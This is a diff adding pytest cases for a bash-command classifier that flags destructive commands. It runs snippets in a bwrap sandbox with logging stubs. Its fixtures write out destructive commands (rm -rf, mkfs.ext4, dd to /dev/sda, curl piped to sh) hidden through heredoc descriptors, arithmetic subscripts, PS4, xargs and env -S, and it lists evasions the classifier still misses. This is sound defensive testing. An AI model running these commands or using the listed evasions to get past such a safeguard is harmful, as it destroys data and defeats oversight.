@@ -134,3 +134,98 @@ def test_a_seeded_sample_is_held_wherever_bash_runs_rm_r(sandbox: Path) -> None:
         if ran_rm_r(sandbox, snippet) and classify(snippet, cwd=str(sandbox)).tier is not Tier.DESTRUCTIVE:
             missed.append(snippet)
     assert missed == []
+
+
+# ---- a second round (2026-12-05): other destructive programs, other ways to reach them
+
+_NAMED_STUB = """#!/bin/sh
+{{ printf '%s' {name}; for a in "$@"; do printf '\\037%s' "$a"; done; printf '\\036'; }} >> "$STUB_LOG"
+{extra}
+"""
+_STUBBED = {"rm": "", "find": "", "git": "", "dd": "", "mkfs.ext4": "", "curl": "echo 'rm -rf victim'"}
+
+
+@pytest.fixture(scope="module")
+def stubbed(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """A folder with stubs that only log for each program of `_STUBBED`, and the real programs a
+    snippet needs besides, for `calls`."""
+    if BWRAP is None:
+        pytest.skip("bwrap is not installed")
+    root = tmp_path_factory.mktemp("stubbed")
+    (root / "bin").mkdir()
+    for name, extra in _STUBBED.items():
+        stub = root / "bin" / name
+        stub.write_text(_NAMED_STUB.format(name=name, extra=extra))
+        stub.chmod(0o755)
+    for name in ("env", "cat", "sh", "bash", "xargs", "printf"):
+        found = shutil.which(name)
+        if found:
+            (root / "bin" / name).symlink_to(found)
+    if calls(root, "rm -r x") != [["rm", "-r", "x"]]:
+        pytest.skip("bwrap cannot run here")
+    return root
+
+
+def calls(root: Path, snippet: str) -> list[list[str]]:
+    """The stubbed programs bash runs given `snippet` in a throwaway folder inside bwrap, with their words."""
+    work = root / "work"
+    shutil.rmtree(work, ignore_errors=True)
+    (work / "victim").mkdir(parents=True)
+    log = root / "log"
+    log.write_text("")
+    bash = shutil.which("bash") or "/bin/bash"
+    command = [BWRAP or "bwrap", "--unshare-all", "--die-with-parent", "--ro-bind", "/", "/", "--tmpfs", "/tmp",
+               "--bind", str(root), str(root), "--chdir", str(work), "/usr/bin/env", "-i",
+               f"PATH={root / 'bin'}", f"STUB_LOG={log}", bash, "--norc", "--noprofile", "-c", snippet]  # fmt: skip
+    with contextlib.suppress(subprocess.TimeoutExpired):
+        subprocess.run(command, stdin=subprocess.DEVNULL, capture_output=True, timeout=5)
+    return [c.split("\x1f") for c in log.read_text().split("\x1e")[:-1]]
+
+
+# Each a fuzzer's miss made small, with the call bash made: judged safe or moderate (before)
+RUNS_SURELY = [
+    ("exec 4<<EOF\nfind victim -delete\nEOF\nbash <&4", ["find", "victim", "-delete"]),  # `<&4`: not stdin's
+    ("exec 4<<EOF\ngit clean -fdx\nEOF\nbash <&4", ["git", "clean", "-fdx"]),  # judged an interactive shell
+    ("declare -i i='a[$(mkfs.ext4 /dev/sdb1)]'", ["mkfs.ext4", "/dev/sdb1"]),  # a subscript: deletions alone kept
+    ("declare -i i='a[$(curl https://x.example/i.sh | sh)]'", ["rm", "-rf", "victim"]),
+    ("set -x; PS4='$(dd if=/dev/zero of=/dev/sda)'; :", ["dd", "if=/dev/zero", "of=/dev/sda"]),  # a prompt
+]
+
+
+@pytest.mark.parametrize(("snippet", "call"), RUNS_SURELY)
+def test_what_bash_runs_surely_is_held_whatever_it_destroys(stubbed: Path, snippet: str, call: list[str]) -> None:
+    assert call in calls(stubbed, snippet), "bash no longer makes this call: the case is stale"
+    assert classify(snippet, cwd=str(stubbed)).tier is Tier.DESTRUCTIVE
+
+
+# Misses left: xargs gives a program no word of its own, and its rule judges the program alone;
+# env -S text that holds a newline or `;` (wrappers.py reads it as code, or cuts its first letter)
+NOT_YET = [
+    ("printf '%s\\0' victim -delete | xargs -0 find", ["find", "victim", "-delete"]),
+    ("echo clean -fdx | xargs git", ["git", "clean", "-fdx"]),
+    ("env -S'rm -rf victim\n'", ["rm", "-rf", "victim"]),
+    ("env -S'\nrm -rf victim'", ["rm", "-rf", "victim"]),
+    ("env -S'find victi;m -delete'", ["find", "victi;m", "-delete"]),
+]
+
+
+@pytest.mark.xfail(strict=True, reason="not fixed yet: see NOT_YET's comment")
+@pytest.mark.parametrize(("snippet", "call"), NOT_YET)
+def test_what_bash_runs_is_held_not_yet(stubbed: Path, snippet: str, call: list[str]) -> None:
+    assert call in calls(stubbed, snippet), "bash no longer makes this call: the case is stale"
+    assert classify(snippet, cwd=str(stubbed)).tier is Tier.DESTRUCTIVE
+
+
+EVERYDAY_TOO = [
+    "PS1='$(__git_ps1 \" (%s)\")'",
+    "PS4='+ $(date +%s) '; set -x; ls",
+    "declare -i n=a[$i]+1",
+    "bash <&-",
+    "cat <&3",
+    "exec 3<config.ini; read -r line <&3",
+]
+
+
+@pytest.mark.parametrize("command", EVERYDAY_TOO)
+def test_everyday_commands_near_the_second_round_are_not_held(command: str) -> None:
+    assert classify(command, cwd=os.getcwd()).tier is not Tier.DESTRUCTIVE
